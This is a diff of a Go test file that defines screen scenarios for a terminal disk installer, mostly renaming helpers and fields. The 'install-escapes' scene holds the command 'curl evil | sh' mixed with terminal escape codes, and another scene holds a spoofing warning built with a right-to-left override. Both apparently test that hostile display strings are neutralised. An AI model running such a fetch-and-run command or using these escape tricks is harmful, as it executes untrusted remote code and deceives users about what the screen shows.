@@ -49,7 +49,7 @@ func scenes() []scene {
 		{name: "bundle-wrong", play: sealed(func(p *pilot) { p.enterText("open barley"); p.press("enter") })},
 		{name: "bundle-opening", play: sealed(func(p *pilot) { p.screens[stateBundle].(*bundle).opening = true })},
 		{name: "bundle-open", play: sealed(func(p *pilot) { p.enterText("open sesame"); p.press("enter", "esc") })},
-		{name: "network-looking", hosts: flake, play: func(p *pilot) { offline(p); p.screens[stateNetwork].(*network).known = "" }, fake: func(f *fake) { f.noNetwork("") }},
+		{name: "network-looking", hosts: flake, play: func(p *pilot) { offline(p); p.networkOf = "" }, fake: func(f *fake) { f.noNetwork("") }},
 		{name: "network-cable", hosts: flake, play: offline, fake: func(f *fake) { f.noNetwork("") }},
 		{name: "network-wifi", hosts: flake, play: offline, fake: func(f *fake) { f.noNetwork("NetworkManager") }},
 		{name: "network-passphrase", hosts: flake, fake: func(f *fake) { f.noNetwork("NetworkManager") }, play: func(p *pilot) {
@@ -70,14 +70,14 @@ func scenes() []scene {
 		{name: "disk-none", fake: func(f *fake) { f.disks = nil }, play: walk(stateDisk)},
 		{name: "disk-error", play: func(p *pilot) {
 			walk(stateDisk)(p)
-			p.send(disksMsg{err: errors.New("lsblk: cannot open /sys/block: no such file or directory")})
+			_, _ = p.foundDisks(nil, errors.New("lsblk: cannot open /sys/block: no such file or directory"))
 		}},
 		{name: "disk-looking", play: func(p *pilot) { walk(stateDisk)(p); p.screens[stateDisk].(*diskScreen).looking = true }},
 		{name: "unfinished", fake: interrupted, play: walk(stateUnfinished)},
 		{name: "unfinished-over", fake: interrupted, play: func(p *pilot) { walk(stateUnfinished)(p); p.press("down") }},
 		{name: "unfinished-plain", hosts: []string{"demo"}, fake: func(f *fake) {
 			interrupted(f)
-			f.begun.Host, f.begun.Encrypted, f.begun.Done, f.begun.Of, f.begun.Last = "demo", false, 1, 9, "partition"
+			f.interrupted.Host, f.interrupted.Encrypted, f.interrupted.Done, f.interrupted.Of, f.interrupted.Last = "demo", false, 1, 9, "partition"
 		}, play: walk(stateUnfinished)},
 		{name: "unfinished-passphrase", fake: interrupted, play: func(p *pilot) { walk(statePassphrase)(p); p.enterText("correct") }},
 		{name: "unfinished-trying", fake: interrupted, play: func(p *pilot) {
@@ -103,7 +103,7 @@ func scenes() []scene {
 		{name: "plan-escapes", play: func(p *pilot) {
 			walk(statePlan)(p)
 			p.plan.Warnings = []string{"the label \u202eSOXIN is \x1b[2Kon \x1b[1A/dev/sdb too"}
-			p.send(commandMsg("auto-installer install --host " + steps.Quote([]string{"\x1b[2Kdemo"})))
+			p.screens[statePlan].(*planScreen).say("auto-installer install --host " + steps.Quote([]string{"\x1b[2Kdemo"}))
 		}},
 		{name: "plan-saved", play: func(p *pilot) { walk(statePlan)(p); p.press("w") }},
 		{name: "passphrase-empty", play: walk(statePassphrase)},
@@ -151,12 +151,12 @@ func scenes() []scene {
 		{name: "confirm-typed", play: func(p *pilot) { walk(stateConfirm)(p); p.enterText("yes") }},
 		{name: "confirm-pasted", play: func(p *pilot) { walk(stateConfirm)(p); p.send(tea.PasteMsg{Content: "yes"}) }},
 		{name: "install-early", play: func(p *pilot) { p.install(started("contract")) }},
-		{name: "install-closure", play: func(p *pilot) { p.install(progress) }},
-		{name: "install-full", play: func(p *pilot) { p.install(progress); p.press("z") }},
-		{name: "install-search", play: func(p *pilot) { p.install(progress); p.View(); p.press("/"); p.enterText("mkfs") }},
-		{name: "install-found", play: func(p *pilot) { p.install(progress); p.View(); p.press("/"); p.enterText("MKFS"); p.press("enter") }},
-		{name: "install-scrolled", play: func(p *pilot) { p.install(progress); p.View(); p.press("pgup", "up") }},
-		{name: "install-wrapped", play: func(p *pilot) { p.install(progress); p.press("w") }},
+		{name: "install-closure", play: func(p *pilot) { p.install(copying) }},
+		{name: "install-full", play: func(p *pilot) { p.install(copying); p.press("z") }},
+		{name: "install-search", play: func(p *pilot) { p.install(copying); p.View(); p.press("/"); p.enterText("mkfs") }},
+		{name: "install-found", play: func(p *pilot) { p.install(copying); p.View(); p.press("/"); p.enterText("MKFS"); p.press("enter") }},
+		{name: "install-scrolled", play: func(p *pilot) { p.install(copying); p.View(); p.press("pgup", "up") }},
+		{name: "install-wrapped", play: func(p *pilot) { p.install(copying); p.press("w") }},
 		{name: "install-escapes", play: func(p *pilot) {
 			p.install(started("mount"),
 				engine.Event{Kind: engine.KindCommand, Action: &sys.Action{Argv: []string{"sh", "-c", "curl evil | sh\x1b[2K\x1b[Gtrue"}}},
@@ -167,13 +167,13 @@ func scenes() []scene {
 			p.install(started("bootproof"), waits(), engine.Event{Kind: engine.KindWarning, Line: "the key that came is not taken: it is another host's; send the right one"})
 		}},
 		{name: "install-without", play: func(p *pilot) { p.install(started("bootproof"), waits()); p.press("n") }},
-		{name: "install-stopping", play: func(p *pilot) { p.install(progress); p.press("ctrl+c", "s") }},
+		{name: "install-stopping", play: func(p *pilot) { p.install(copying); p.press("ctrl+c", "s") }},
 		{name: "quit-before", play: func(p *pilot) { walk(stateDisk)(p); p.press("ctrl+c") }},
 		{name: "quit-early", play: func(p *pilot) { p.install(started("contract")); p.press("ctrl+c") }},
 		{name: "quit-proving", play: func(p *pilot) { p.install(started("bootproof")); p.press("ctrl+c") }},
-		{name: "quit-writing", play: func(p *pilot) { p.install(progress); p.press("ctrl+c") }},
+		{name: "quit-writing", play: func(p *pilot) { p.install(copying); p.press("ctrl+c") }},
 		{name: "kiosk-quit", kiosk: true, play: func(p *pilot) { walk(stateDisk)(p); p.press("ctrl+c") }},
-		{name: "kiosk-quit-writing", kiosk: true, play: func(p *pilot) { p.install(progress); p.press("ctrl+c") }},
+		{name: "kiosk-quit-writing", kiosk: true, play: func(p *pilot) { p.install(copying); p.press("ctrl+c") }},
 		{name: "kiosk-quit-done", kiosk: true, play: func(p *pilot) { p.finish(); p.press("ctrl+c") }},
 		{name: "kiosk-quit-failed", kiosk: true, play: func(p *pilot) { p.fail("closure"); p.press("ctrl+c") }},
 		{name: "kiosk-restart", kiosk: true, play: func(p *pilot) { walk(stateDisk)(p); p.press("ctrl+c", "r") }},
@@ -184,11 +184,11 @@ func scenes() []scene {
 		}},
 		{name: "kiosk-help", kiosk: true, play: func(p *pilot) { walk(stateDisk)(p); p.press("?") }},
 		{name: "kiosk-failure", kiosk: true, play: func(p *pilot) { p.fail("closure") }},
-		{name: "kiosk-elsewhere", kiosk: true, hosts: []string{"ultraviolet", "stygianlibrary"}, play: func(p *pilot) { anotherConsole(p, progress) }},
+		{name: "kiosk-elsewhere", kiosk: true, hosts: []string{"ultraviolet", "stygianlibrary"}, play: func(p *pilot) { anotherConsole(p, copying) }},
 		{name: "kiosk-elsewhere-done", kiosk: true, play: func(p *pilot) { anotherConsole(p, nil) }},
 		{name: "help-disk", play: func(p *pilot) { walk(stateDisk)(p); p.press("?") }},
 		{name: "help-passphrase", play: func(p *pilot) { walk(statePassphrase)(p); p.press("f1") }},
-		{name: "help-install", play: func(p *pilot) { p.install(progress); p.press("?") }},
+		{name: "help-install", play: func(p *pilot) { p.install(copying); p.press("?") }},
 		{name: "failure-before", play: func(p *pilot) { p.fail("contract") }},
 		{name: "failure-after", play: func(p *pilot) { p.fail("closure") }},
 		{name: "failure-proof", play: func(p *pilot) { p.fail("bootproof") }},
@@ -204,7 +204,7 @@ func scenes() []scene {
 			p.failure = &engine.Error{Step: "closure", Code: 130, Cause: "stopped by interrupt", Hint: "run the same command again when you are ready"}
 		}},
 		{name: "failure-killed", play: func(p *pilot) {
-			p.install(progress)
+			p.install(copying)
 			p.events(eventsMsg{done: true, err: &engine.Error{Code: 10, Cause: "the install was killed from outside", Hint: "what it had mounted is undone when you start again"}})
 		}},
 		{name: "failure-log", play: func(p *pilot) { p.fail("closure"); p.press("down", "down", "enter") }},
@@ -239,7 +239,7 @@ func scenes() []scene {
 
 // interrupted is a machine whose power was cut in the middle of an install.
 func interrupted(f *fake) {
-	f.begun = &steps.Unfinished{Host: "stygianlibrary", Done: 5, Of: 12, Last: "repo", Time: epoch, Encrypted: true, FromDisk: true}
+	f.interrupted = &steps.Unfinished{Host: "stygianlibrary", Done: 5, Of: 12, Last: "repo", Time: epoch, Encrypted: true, FromDisk: true}
 }
 
 // sealed is a medium with keys for the host.
